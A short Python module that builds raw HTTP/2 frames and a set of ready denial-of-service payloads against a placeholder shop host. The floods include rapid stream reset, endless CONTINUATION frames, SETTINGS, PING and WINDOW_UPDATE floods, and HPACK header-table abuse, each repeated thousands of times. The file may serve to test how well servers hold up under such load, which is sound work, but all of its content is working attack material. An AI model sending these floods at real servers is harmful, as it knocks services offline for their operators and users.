"""Frames of HTTP/2, and floods of them by which a client may try to wear a server out."""

import struct

DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, GOAWAY, WINDOW, MORE = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
FRAMES = 5_000


def frame(kind, flags=0, stream=0, body=b""):
    return len(body).to_bytes(3, "big") + struct.pack(">BBI", kind, flags, stream) + body


def frames(data):
    """The type and the body of each frame in bytes from a server."""
    while data:
        size = 9 + int.from_bytes(data[:3], "big")
        yield data[3], data[9:size]
        data = data[size:]


HOST = b"shop.example.com"
QUESTION = bytes([0x82, 0x86, 0x84, 0x41, len(HOST)]) + HOST  # GET http /, and the authority
POST = bytes([0x83]) + QUESTION[1:]
BEGIN = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS)
STREAMS = range(1, 2 * FRAMES, 2)
FLOODS = {
    "rapid reset": b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, s, QUESTION) + frame(RESET, 0, s, b"\0\0\0\x08") for s in STREAMS
    ),
    "settings": frame(SETTINGS) * FRAMES,
    "settings that change": b"".join(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, n)) for n in range(FRAMES)),
    "windows": frame(WINDOW, 0, 0, b"\0\0\0\1") * FRAMES,
    "windows that overflow": frame(WINDOW, 0, 0, b"\x7f\xff\xff\xff") * FRAMES,
    "windows of none": frame(WINDOW, 0, 0, b"\0\0\0\0") * FRAMES,
    "pings": frame(PING, 0, 0, b"12345678") * FRAMES,
    "priorities": b"".join(frame(PRIORITY, 0, s, b"\0\0\0\0\1") for s in STREAMS),
    "headers without an end": frame(HEADERS, END_STREAM, 1, QUESTION) + frame(MORE, 0, 1, b"\0\1a\1b" * 200) * FRAMES,
    "empty data": frame(HEADERS, END_HEADERS, 1, POST) + frame(DATA, 0, 1) * FRAMES,
    "answers that nobody takes": frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    + b"".join(frame(HEADERS, END_STREAM | END_HEADERS, s, QUESTION) for s in STREAMS),
    "a table of headers": b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, s, QUESTION + b"\x40\x04" + s.to_bytes(4, "big") + b"\x64" + b"v" * 100) for s in STREAMS
    ),
    "a header that is named again and again": frame(HEADERS, 0, 1, QUESTION + b"\x40\x01a\x7f\x81\x1e" + b"v" * 4000)
    + frame(MORE, END_HEADERS, 1, b"\xbe" * 10_000),
}  # fmt: skip
